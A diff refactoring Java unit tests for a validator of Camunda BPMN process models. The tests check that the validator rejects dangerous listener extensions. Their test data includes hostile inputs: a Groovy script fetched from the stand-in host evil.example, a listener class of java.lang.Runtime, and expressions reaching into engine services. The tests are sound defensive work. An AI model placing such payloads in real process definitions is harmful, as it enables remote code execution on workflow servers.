@@ -98,9 +98,9 @@ class ModelValidatorTest {
     @Test
     void anUnknownDelegateBeanIsRefused() {
         String key = StudioModels.uniqueKey();
-        String bean = StudioModels.process(key, "camunda:historyTimeToLive=\"P30D\"",
-                "camunda:candidateGroups=\"GOVERNANCE\" camunda:formKey=\"screen:certify\"", "")
-                .replace("<bpmn:endEvent id=\"end\">", "<bpmn:endEvent id=\"end\"><bpmn:extensionElements><camunda:executionListener event=\"start\" delegateExpression=\"${auditLog}\" /></bpmn:extensionElements>");
+        String bean = withEndListener(StudioModels.process(key, "camunda:historyTimeToLive=\"P30D\"",
+                "camunda:candidateGroups=\"GOVERNANCE\" camunda:formKey=\"screen:certify\"", ""),
+                "<camunda:executionListener event=\"start\" delegateExpression=\"${auditLog}\" />");
         assertThat(validator.validate(StudioModels.file(key, bean)))
                 .extracting(ModelProblem::elementId, ModelProblem::rule)
                 .containsExactly(org.assertj.core.groups.Tuple.tuple("end", "delegate.not-allowed"));
@@ -109,32 +109,32 @@ class ModelValidatorTest {
     @Test
     void anExpressionCallingAnApplicationBeanIsRefused() {
         String key = StudioModels.uniqueKey();
-        String bean = StudioModels.process(key).replace("<bpmn:endEvent id=\"end\">",
-                "<bpmn:endEvent id=\"end\"><bpmn:extensionElements><camunda:executionListener event=\"start\" expression=\"${journeyService.moveTo(null, null)}\" /></bpmn:extensionElements>");
+        String bean = withEndListener(StudioModels.process(key),
+                "<camunda:executionListener event=\"start\" expression=\"${journeyService.moveTo(null, null)}\" />");
         assertThat(rules(bean)).containsExactly("expression.bean-not-allowed");
     }
 
     @Test
     void anExpressionReachingIntoTheEngineIsRefused() {
         String key = StudioModels.uniqueKey();
-        String engine = StudioModels.process(key).replace("<bpmn:endEvent id=\"end\">",
-                "<bpmn:endEvent id=\"end\"><bpmn:extensionElements><camunda:executionListener event=\"start\" expression=\"${execution.getProcessEngineServices().getRepositoryService()}\" /></bpmn:extensionElements>");
+        String engine = withEndListener(StudioModels.process(key),
+                "<camunda:executionListener event=\"start\" expression=\"${execution.getProcessEngineServices().getRepositoryService()}\" />");
         assertThat(rules(engine)).containsExactly("expression.bean-not-allowed");
     }
 
     @Test
     void aJavaClassIsRefused() {
         String key = StudioModels.uniqueKey();
-        String withClass = StudioModels.process(key).replace("<bpmn:endEvent id=\"end\">",
-                "<bpmn:endEvent id=\"end\"><bpmn:extensionElements><camunda:executionListener event=\"start\" class=\"java.lang.Runtime\" /></bpmn:extensionElements>");
+        String withClass = withEndListener(StudioModels.process(key),
+                "<camunda:executionListener event=\"start\" class=\"java.lang.Runtime\" />");
         assertThat(rules(withClass)).containsExactly("class.not-allowed");
     }
 
     @Test
     void anExternalResourceIsRefused() {
         String key = StudioModels.uniqueKey();
-        String external = StudioModels.process(key).replace("<bpmn:endEvent id=\"end\">",
-                "<bpmn:endEvent id=\"end\"><bpmn:extensionElements><camunda:executionListener event=\"start\"><camunda:script scriptFormat=\"groovy\" resource=\"http://evil.example/x.groovy\" /></camunda:executionListener></bpmn:extensionElements>");
+        String external = withEndListener(StudioModels.process(key),
+                "<camunda:executionListener event=\"start\"><camunda:script scriptFormat=\"groovy\" resource=\"http://evil.example/x.groovy\" /></camunda:executionListener>");
         assertThat(rules(external)).contains("external.resource", "script.not-allowed");
     }
 
@@ -268,6 +268,12 @@ class ModelValidatorTest {
                 .contains(org.assertj.core.groups.Tuple.tuple("tiny", "history-time-to-live"));
         assertThat(validator.validate(ModelFile.of("processes/tiny.dmn", good.replace("typeRef=\"long\" ", "typeRef=\"long\" expressionLanguage=\"javascript\" "))))
                 .extracting(ModelProblem::rule).containsExactly("script.not-allowed");
+    }
+
+    /** The process with the given listener (or other extension) on its end event. */
+    private static String withEndListener(String processXml, String extension) {
+        return processXml.replace("<bpmn:endEvent id=\"end\">",
+                "<bpmn:endEvent id=\"end\"><bpmn:extensionElements>" + extension + "</bpmn:extensionElements>");
     }
 
     private List<String> rules(String processXml) {
